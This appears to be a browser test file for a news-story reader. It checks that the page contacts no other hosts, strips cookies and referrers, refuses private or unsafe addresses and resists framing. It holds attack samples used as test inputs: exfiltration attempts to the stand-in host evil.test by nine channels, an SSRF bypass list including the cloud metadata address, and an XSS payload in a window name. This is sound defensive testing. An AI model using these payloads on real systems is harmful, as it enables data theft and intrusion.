// T11, T12, T13, T15, T16: what other hosts learn, and what they can do to the page. Counted where they would be asked,
// at the host: no page, worker, picture, prefetch or look-up of a name gets round that.

import { p, person, story } from "../support/build.js";
import { at } from "../support/env.js";
import { noEntities, pictures } from "../support/fixtures.js";
import { expect, gives, givesSite, test } from "../support/foreign.js";
import { failure } from "../support/messages.js";
import { followLink, hasFailed, isReady, openStory, serveStory } from "../support/site.js";
import { loadStory, storyPath } from "../support/story.js";

const open = { "content-type": "text/html" };

/** A page of another host that tells what it has learned of where its reader came from. */
const spy = gives("<!doctype html><title>Spy</title><p>Read me", open);

test.describe("whoever reads a story of this site", () => {
  test("asks nobody else, whatever is pressed", async ({ page, hosts }) => {
    await openStory(page);
    for (const key of ["n", "n", "Enter", "Escape", "q", "o", "s", "Escape", "/", "Escape", "?", "Escape", "a", "Escape", "l"]) {
      await page.keyboard.press(key);
    }
    const links = page.locator('a[href^="https:"]:visible');
    for (const link of (await links.all()).slice(0, 5)) await link.hover();
    await page.waitForLoadState("networkidle");
    expect(hosts.connected).toEqual([]);
  });

  test("loads no picture of another host, nor looks it up", async ({ page, hosts }) => {
    await openStory(page, await serveStory(page, "pictures", pictures));
    await expect(page.locator("[data-story] figure").last()).toContainText("news.test");
    await page.locator("[data-story] figure").last().scrollIntoViewIfNeeded();
    await page.waitForLoadState("networkidle");
    expect(hosts.connected).toEqual([]);
  });

  for (const way of ["fetch", "image", "beacon", "style", "font", "script", "frame", "socket", "form"]) {
    test.describe("even a program that were let in", () => {
      test.use({
        allowedConsole: /./,
        // The browser begins to ask, and its policy stops it: whether anybody was asked is seen at the hosts.
        ownOrigin: ["https://evil.test", "http://evil.test", "wss://evil.test"],
      });

      test(`can't get anything out by http, nor anywhere by ${way}`, async ({ page, hosts }) => {
        await openStory(page);
        await page.evaluate(async (how) => {
          const there = how === "fetch" ? "http://evil.test/x" : "https://evil.test/x";
          const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
          const ways = {
            fetch: () => fetch(there, { mode: "no-cors" }),
            image: () => (new Image().src = there),
            beacon: () => navigator.sendBeacon("http://evil.test/x", "words"),
            style: () => add("link", { rel: "stylesheet", href: there }),
            font: () => new FontFace("x", `url(${there})`).load(),
            script: () => import(there),
            frame: () => add("iframe", { src: there }),
            socket: () => new WebSocket("wss://evil.test/x"),
            form: () => {
              add("form", { action: there, method: "post", id: "out" });
              document.getElementById("out").submit();
            },
          };
          await Promise.race([
            Promise.resolve().then(ways[how]).catch(() => {}),
            new Promise((next) => setTimeout(next, 1000)),
          ]);
        }, way);
        expect(await page.evaluate(() => document.querySelector("[data-story]") !== null)).toBe(true);
        expect(hosts.asked).toEqual([]);
        // Chromium shakes hands with the host of a frame or form before it asks the policy: no more than that.
        if (!["frame", "form"].includes(way)) expect(hosts.connected).toEqual([]);
      });
    });
  }
});

test.describe("a host whose story is read", () => {
  const src = "https://news.test/story.json";
  test.use({ ownOrigin: ["https://news.test", "https://reader.test"] });

  test("is asked once, by GET, without cookie, referrer, or a header of ours", async ({ page, hosts, context }) => {
    await context.addCookies([{ name: "who", value: "me", url: "https://news.test/", sameSite: "None", secure: true }]);
    hosts.answer(src, gives(noEntities));
    await openStory(page, src);
    await context.clearCookies();
    const story = hosts.asked.filter((it) => it.url === src);
    expect(story).toHaveLength(1);
    const [{ method, headers }] = story;
    expect(method).toBe("GET");
    for (const name of ["cookie", "referer", "authorization", "x-requested-with"]) expect(headers).not.toHaveProperty(name);
    // The browser's own say which site asks, which is how the host can allow or refuse it; no path, no story.
    expect(headers.origin).toBe(new URL(at("")).origin);
    expect(hosts.connected).toEqual(["news.test"]);
  });

  test("is always shown, whatever the story calls itself", async ({ page, hosts }) => {
    const claims = story(
      {
        headline: "From bank.test",
        section: "From bank.test",
        source: { name: "bank.test", url: "https://bank.test/" },
        url: "https://bank.test/",
        blocks: Array.from({ length: 60 }, (_, i) => p(`Paragraph ${i}.`)),
        entities: [person("a", "Ann")],
      },
      [],
    );
    hosts.answer(src, gives(claims));
    await openStory(page, src);
    await expect(page.locator("[data-source]")).toHaveText("news.test");
    await expect(page.locator("[data-source]")).toBeVisible();
    // It stands outside of all that the story fills.
    expect(await page.locator("[data-source]").evaluate((it) => it.closest("main, article"))).toBeNull();
  });

  test("gets a story no further than its own words: a picture beside it is not loaded", async ({ page, hosts }) => {
    hosts.answer(src, gives({ ...pictures, blocks: [{ type: "figure", src: "beside.png", alt: "x", text: "Beside" }], mentions: [] }));
    await openStory(page, src);
    await expect(page.locator("[data-story] figure")).toContainText("news.test");
    expect(hosts.asked.map((it) => it.url)).toEqual([src]);
  });

  test("opened from a site over https, learns its name and nothing else", async ({ page, hosts }) => {
    hosts.answer("https://reader.test", givesSite);
    hosts.answer(src, gives(noEntities));
    await followLink(page, `https://reader.test/dateline/?src=${src}&q=secret#b=0`);
    await isReady(page);
    const { headers } = hosts.asked.find((it) => it.url === src);
    expect(JSON.stringify(headers)).not.toMatch(/secret|dateline|referer/);
  });
});

test.describe("an address in a link", () => {
  for (const host of [
    "127.0.0.1:8080", "127.1", "2130706433", "0x7f.0.0.1", "0177.0.0.1", "0", "10.0.0.1", "172.16.0.1", "192.168.1.1",
    "169.254.169.254", "100.64.0.1", "[::1]", "[::ffff:10.0.0.1]", "[fd00::1]", "[fe80::1]", "localhost", "localhost.",
    "a.localhost", "router", "printer.local", "wiki.internal", "user@news.test", "user:word@news.test",
    "①②⑦.⓪.⓪.①", "LOCALHOST", "ｌｏｃａｌｈｏｓｔ",
  ]) {
    test(`that leads to ${host} is refused, and nothing is asked`, async ({ page, hosts }) => {
      await page.goto(at(`?src=${encodeURIComponent(`https://${host}/story.json`)}`));
      await hasFailed(page);
      await expect(failure(page).locator(".cause")).toHaveText(/not a public host|is not an address/);
      expect(hosts.connected).toEqual([]);
    });
  }

  for (const src of ["http://news.test/a", "//news.test/a", "\\\\news.test\\a", "ftp://news.test/a", "data:,{}", "blob:https://news.test/a", "file:///a", "ws://news.test/a"]) {
    test(`that begins as ${src} is refused, and nothing is asked`, async ({ page, hosts }) => {
      await page.goto(at(`?src=${encodeURIComponent(src)}`));
      await hasFailed(page);
      await expect(failure(page).locator(".cause")).toHaveText(/not a secure address|is not an address/);
      await expect(failure(page).locator("[data-retry]")).toHaveCount(0);
      expect(hosts.connected).toEqual([]);
    });
  }
});

test.describe("a link that is followed", () => {
  test.use({ ownOrigin: "https://news.test", allowedConsole: /^Failed to load resource/ });

  test("opens a page that knows nothing of the reader, and can't reach back", async ({ page, context, hosts }) => {
    hosts.answer("https://news.test/page", spy);
    const linked = story(
      {
        headline: "A link",
        blocks: [p("Read it there.", { styles: [{ kind: "link", start: 0, end: 4, href: "https://news.test/page" }] })],
        entities: [],
      },
      [],
    );
    await openStory(page, await serveStory(page, "linked", linked));
    await page.evaluate(() => (window.name = "a name of ours"));
    const opened = context.waitForEvent("page");
    await page.locator('[data-block="0"] a').click();
    const other = await opened;
    await other.waitForLoadState();
    expect(await other.evaluate(() => [document.referrer, window.opener, window.name])).toEqual(["", null, ""]);
    const { headers } = hosts.asked.find((it) => it.url === "https://news.test/page");
    expect(headers).not.toHaveProperty("referer");
    await expect(page.locator("h1")).toHaveText("A link");
  });
});

test.describe("a page of another host that shows this one in a frame", () => {
  test.use({ ownOrigin: "https://evil.test", allowedConsole: /./ });

  /** A static host can't forbid it; so what can be reached through it must not matter. */
  test("reads nothing of it, and its messages do nothing", async ({ page, hosts }) => {
    const link = at(`?src=${storyPath}`);
    hosts.answer("https://evil.test/frame", gives(`<!doctype html><iframe name="x" width="1000" height="700" src="${link}"></iframe>`, open));
    await page.goto("https://evil.test/frame");
    const frame = page.frameLocator("iframe");
    await expect(frame.locator("html")).toHaveAttribute("data-state", "ready");
    const learned = await page.evaluate(() => {
      const words = [];
      for (const get of [(it) => it.document.body.textContent, (it) => it.location.href, (it) => it.localStorage.length]) {
        try {
          words.push(get(frames[0]));
        } catch (error) {
          words.push(error.name);
        }
      }
      const messages = ["x", null, 1, { type: "open", src: "https://evil.test/x" }, { cmd: "eval" }, new Map(), new ArrayBuffer(8)];
      for (const it of messages) frames[0].postMessage(it, "*");
      return words;
    });
    expect(learned).toEqual(["SecurityError", "SecurityError", "SecurityError"]);
    const headline = frame.locator("h1");
    await expect(headline).toHaveText(loadStory().headline);
    await expect(frame.locator("#crash")).toBeHidden();
    await expect(frame.locator("html")).toHaveAttribute("data-state", "ready");
    expect(hosts.asked.map((it) => it.url).filter((it) => !it.endsWith("favicon.ico"))).toEqual(["https://evil.test/frame"]);
  });

  test("or opens it in a window of its own, can't drive it", async ({ page, context, hosts }) => {
    hosts.answer("https://evil.test/opener", gives("<!doctype html><title>Opener</title>", open));
    await page.goto("https://evil.test/opener");
    const opened = context.waitForEvent("page");
    await page.evaluate((link) => void (window.held = window.open(link, "<img src=x onerror=alert(1)>")), at(`?src=${storyPath}`));
    const story = await opened;
    await isReady(story);
    await page.evaluate(() => {
      for (const it of ["x", { type: "open" }]) window.held.postMessage(it, "*");
    });
    await expect(story.locator("h1")).toHaveText(loadStory().headline);
    await expect(story.locator("#crash")).toBeHidden();
    expect(await story.evaluate(() => document.referrer)).toBe("");
  });
});
